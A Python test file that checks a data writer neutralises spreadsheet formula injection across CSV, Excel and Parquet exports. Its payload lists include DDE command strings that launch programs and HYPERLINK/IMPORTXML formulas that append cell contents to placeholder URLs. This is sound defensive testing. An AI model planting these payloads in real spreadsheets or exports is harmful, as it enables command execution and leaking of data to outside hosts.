"""Five hundred and more cells that would be formulas elsewhere, out through the one writer, opened
with readers that know nothing of it, and in again."""

from __future__ import annotations

import csv
import itertools
import unicodedata
from pathlib import Path

import openpyxl
import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from holbein.audiences.cells import MARK, is_number_or_telephone
from holbein.audiences.reading import read
from holbein.audiences.writer import write
from tests.unit.audiences.test_cells import AWKWARD

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "\u2212")
LEADS = ("", " ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u2060 ")
PAYLOADS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.invalid/?q="&A1,"see")',
    "SUM(1,2);=1+1",
)
NESTED = [
    f"{before}{separator}{lead}{sign}{payload}"
    for before in ("Acme", '"Acme"', "a,b", "中文")
    for separator in (";", "|", "\t", "\n", "\r")
    for lead in ("", " ")
    for sign in ("=", "@", "＝")
    for payload in ("1+1",)
]
ODD = [
    "--5", "+-5", "=", "@", "+", "-", "-5+1", "5\n=1", "+86 21 1234 5678;=1+1", "-5;=1", '"=1+1"\n=2',
    "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "DDE;=DDE(\"cmd\";\"/C calc\";\"x\")", "\t\t=1",
    "=1\u202e+1", "=\u0661+1", "@SUM(1+1)*cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")",
]  # fmt: skip
CELLS = [
    *(lead + sign + payload for lead, sign, payload in itertools.product(LEADS, SIGNS, PAYLOADS)),
    *NESTED,
    *ODD,
]
HARMLESS = [
    "-5", "-5.3", "+86 21 1234 5678", "+8613800138000", "＋86 21 1234 5678", "-1,234.50", "-12%", "-1e5",
    "+1 (425) 555-0100", "a-b", "a=b", "x@y.example", "中国银行", 'say "hi"', "5-3", "O'Reilly",
]  # fmt: skip


def could_run(cell: object) -> bool:
    """Whether a spreadsheet could take a cell for a formula, whatever it does to its beginning."""
    text = unicodedata.normalize("NFKC", str(cell)).replace("\u2212", "-")
    text = text.lstrip(" \t\r\n\u00a0\u200b\u2060\ufeff\u3000\x00")
    return text[:1] in ("=", "+", "-", "@") and not is_number_or_telephone(text)


def test_there_are_five_hundred_of_them() -> None:
    assert len(set(CELLS)) >= 500
    assert not any(map(could_run, HARMLESS))
    assert sum(map(could_run, CELLS)) >= 500  # the others hold one within


def table() -> pa.Table:
    cells = [*CELLS, *HARMLESS]
    return pa.table({"key": [f"C{n}" for n in range(len(cells))], "=name": cells, "list": [["x", one] for one in cells]})  # fmt: skip


def test_no_reader_of_the_csv_finds_a_formula(tmp_path: Path) -> None:
    path = write(table(), tmp_path / "out.csv")
    found = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert len(found) == len(CELLS) + len(HARMLESS)
    assert not found.map(could_run).any().any()
    assert not any(map(could_run, found.columns))
    assert found["'=name"].tolist()[-len(HARMLESS) :] == HARMLESS


def test_no_program_that_splits_otherwise_finds_a_formula(tmp_path: Path) -> None:
    """Some separate at semicolons or tabs, and some forget the quotes."""
    path = write(pa.table({"a": ["x"] * len(CELLS), "b": CELLS}), tmp_path / "out.csv")
    text = path.read_text("utf-8-sig")
    for delimiter in ";|\t":
        for row in csv.reader(text.splitlines(), delimiter=delimiter, quoting=csv.QUOTE_NONE):
            assert not [one for one in row if could_run(one)], row


def test_no_reader_of_the_excel_file_finds_a_formula(tmp_path: Path) -> None:
    path = write(table(), tmp_path / "out.xlsx")
    sheet = openpyxl.load_workbook(path).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert not [cell.value for cell in cells if could_run(cell.value) or cell.hyperlink]
    assert [cell.value for cell in sheet["B"]][-len(HARMLESS) :] == HARMLESS


@pytest.mark.parametrize("ending", ["csv", "xlsx", "parquet"])
def test_what_was_neutralised_comes_back_as_it_was(tmp_path: Path, ending: str) -> None:
    sheet = read(write(table(), tmp_path / f"out.{ending}"))
    assert sheet.names[:2] == ("key", "=name")
    said = sheet.columns[1].to_pylist()
    if ending == "xlsx":  # in whose XML a line has one end only
        said = [one.replace("\r\n", "\n").replace("\r", "\n") for one in said]
    expected = [one.strip() for one in (*CELLS, *HARMLESS)]
    if ending == "xlsx":
        expected = [one.replace("\r\n", "\n").replace("\r", "\n") for one in expected]
    assert said == expected


@given(st.lists(AWKWARD.filter(lambda text: MARK not in text), min_size=1, max_size=20))
def test_any_text_comes_back(tmp_path_factory: pytest.TempPathFactory, texts: list[str]) -> None:
    path = tmp_path_factory.mktemp("awkward") / "out.csv"
    keys = [f"C{n}" for n in range(len(texts))]
    sheet = read(write(pa.table({"key": keys, "name": texts}), path))
    assert sheet.columns[0].to_pylist() == keys
    assert sheet.columns[1].to_pylist() == [one.strip() for one in texts]
